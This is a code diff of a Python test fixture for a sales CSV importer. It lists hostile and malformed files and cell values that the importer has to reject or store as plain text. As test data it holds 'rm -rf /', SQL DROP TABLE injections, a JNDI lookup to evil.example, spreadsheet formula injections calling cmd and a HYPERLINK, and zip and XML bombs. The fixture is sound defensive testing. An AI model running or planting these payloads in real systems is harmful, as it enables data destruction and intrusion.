@@ -1,22 +1,14 @@
-"""Hostile files of sales: what is no table at all, and cells that have no business in one."""
+"""Hostile files of sales: what is not a table at all, and text that must stay text."""
 
 import gzip
 import io
 import zipfile
 import zlib
 from collections.abc import Callable
-from typing import NamedTuple
 
-HEADER = "InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country"
-COLUMNS = HEADER.split(",")
-ROW = "1,A,Heart,1,2010-12-01,1,17850,France"
+from tests.sales.sales_csv import HEADER, ROW
+
 TABLE = f"{HEADER}\n{ROW}\n"
-
-
-def row(**cells: str) -> str:
-    """A row under `HEADER` with these cells, quoted, in place of good ones."""
-    quoted = {column: '"' + cell.replace('"', '""') + '"' for column, cell in cells.items()}
-    return ",".join((dict(zip(COLUMNS, ROW.split(","), strict=True)) | quoted).values())
 
 
 def zipped(name: str, content: bytes) -> bytes:
@@ -33,7 +25,7 @@ def _xml_bomb() -> str:
 
 
 EXCEL, ARCHIVE, UTF_16, BINARY = "Excel workbook or another ZIP", "gzip archive", "UTF-16", "binary file"
-NO_HEADER, EMPTY = "no header", "empty"
+NO_HEADER, EMPTY = "The first line does not name the column InvoiceNo, StockCode", "empty"
 
 UNREADABLE: dict[str, tuple[Callable[[], bytes], str]] = {
     "zip-bomb": (lambda: zipped("sales.csv", bytes(20 << 20)), EXCEL),
@@ -75,7 +67,7 @@ UNREADABLE: dict[str, tuple[Callable[[], bytes], str]] = {
     "quotes": (lambda: b'"' * 100_001, "longer than 64 KiB"),
     "html": (lambda: b"<!doctype html><script>alert(1)</script>", NO_HEADER),
     "json": (lambda: b"[" * 20_000, NO_HEADER),
-    "xml-bomb": (lambda: _xml_bomb().encode(), NO_HEADER),
+    "xml-bomb": (lambda: _xml_bomb().encode(), "a quote is opened"),
     "script": (lambda: b"#!/bin/sh\nrm -rf /\n", NO_HEADER),
     "sql": (lambda: b"DROP TABLE sales_lines; --\n", NO_HEADER),
     "template": (lambda: b"{{ 7 * 7 }},${jndi:ldap://evil.example/x}\n", NO_HEADER),
@@ -84,73 +76,15 @@ UNREADABLE: dict[str, tuple[Callable[[], bytes], str]] = {
     "million-columns": (lambda: b"a," * 1_000_000 + b"\n", "longer than 64 KiB"),
     "32000-columns": (lambda: b"a," * 32_000 + b"\n", NO_HEADER),
     "header-over-100-lines": (lambda: b'"' + b"a\n" * 200 + b'",b\n', "a quote is opened and never closed"),
-    "columns-missing": (lambda: b"InvoiceNo,Quantity\n1,2\n", "no columns StockCode"),
+    "columns-missing": (
+        lambda: b"InvoiceNo,Quantity\n1,2\n",
+        "column StockCode, InvoiceDate, UnitPrice, Country",
+    ),
     "column-twice": (lambda: f"{HEADER},Quantity\n".encode(), "Quantity more than once"),
-    "column-by-two-names": (lambda: f"{HEADER},Price\n".encode(), "UnitPrice or Price more than once"),
+    "column-by-two-names": (lambda: f"{HEADER},Price\n".encode(), "UnitPrice more than once"),
     "column-twice-by-case": (lambda: f"{HEADER},unit_PRICE\n".encode(), "more than once"),
 }
 """Files that fail as a whole, with a part of the reason."""
-
-
-class Bad(NamedTuple):
-    """A cell that rejects its row."""
-
-    column: str
-    cell: str
-    reason: str
-
-
-_NO_NUMBER = (
-    "NaN",
-    "nan",
-    "sNaN",
-    "Infinity",
-    "-inf",
-    "1e400",
-    "1E5",
-    "0x10",
-    "1_000",
-    "--1",
-    "=1+1",
-    "+",
-    "①",
-)
-_NO_QUANTITY = (*_NO_NUMBER, "6.5", "١٢", "1 000", "1;DROP TABLE sales_lines", "NULL", "true", "9" * 25 + "e")
-_NO_DATE = (
-    "0000-01-01", "10000-01-01", "-2010-01-01", "2010-02-31", "31/02/2010", "2011-02-29", "2010-13-01",
-    "2010-12-01 25:00", "2010-12-01 23:59:60", "infinity", "-infinity", "epoch", "now", "today", "NaN",
-    "1e400", "=TODAY()", "٢٠١٠-12-01", "0", "40513",
-    "2010-12-01'; DROP TABLE sales_lines; --", "2010-12-01\u200b",
-)  # fmt: skip
-
-BAD_CELLS = [
-    *[Bad("Quantity", cell, "is not a whole number") for cell in _NO_QUANTITY],
-    *[Bad("UnitPrice", cell, "is not a price") for cell in (*_NO_NUMBER, "£1", "1,5", "1.2.3", "9" * 65)],
-    *[Bad("InvoiceDate", cell, "is not a date") for cell in _NO_DATE],
-    *[Bad("Quantity", str(n), "is beyond") for n in (2**31, 2**63, -(2**63) - 1, 2**64, 10**30)],
-    *[Bad("UnitPrice", n, "is not below") for n in (str(2**63), str(-(10**30)), "9" * 40 + ".5")],
-    *[Bad("UnitPrice", n, "decimals") for n in ("0.0000001", "1." + "0" * 30 + "1")],
-    *[
-        Bad("InvoiceDate", d, "years 1900 and 2100")
-        for d in ("1899-12-31", "9999-12-31", "0001-01-01", "1/1/2101")
-    ],
-    Bad("InvoiceDate", "2010-12-01 08:26:00Z", "time zone"),
-    *[Bad("Description", f"a{c}b", "control character") for c in "\x01\x08\x1b\x7f\x85"],
-    Bad("Country", "a\0b", "NUL byte"),
-    Bad("CustomerID", "\0", "NUL byte"),
-    Bad("Description", "\udcff", "byte that stands for no character"),
-    Bad("Country", "\udced\udca0\udc80", "byte that stands for no character"),
-    Bad("StockCode", "\udcc0\udc80", "byte that stands for no character"),
-    Bad("InvoiceNo", "1" * 65, "longer than 64"),
-    Bad("StockCode", "'" * 65, "longer than 64"),
-    Bad("Country", "F" * 60_000, "longer than 100"),
-    Bad("Description", "\u0301" * 1001, "longer than 1000"),
-    Bad("InvoiceNo", "\u00a0", "is empty"),
-    Bad("Country", "\u3000", "is empty"),
-]
-"""Each in a row of its own, in one file marked as UTF-8; the surrogates are bytes that it can't hold."""
-
-assert len(BAD_CELLS) <= 100, "an import keeps 100 reasons"
 
 TEXTS = [
     "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1+1)",
@@ -163,4 +97,4 @@ TEXTS = [
     "\ufdd0", "\uffff", "\U0010ffff", "👩\u200d👩\u200d👧", "e\u0301" * 30, "é", "e\u0301", "İ", "ß",
     "a\nb", "a\tb", 'a"b', "a,b;c",
 ]  # fmt: skip
-"""What a cell of text may be all the same: it is stored as it is, and never anything but text."""
+"""What a cell may hold nevertheless: it is stored as it is, and never anything but text."""
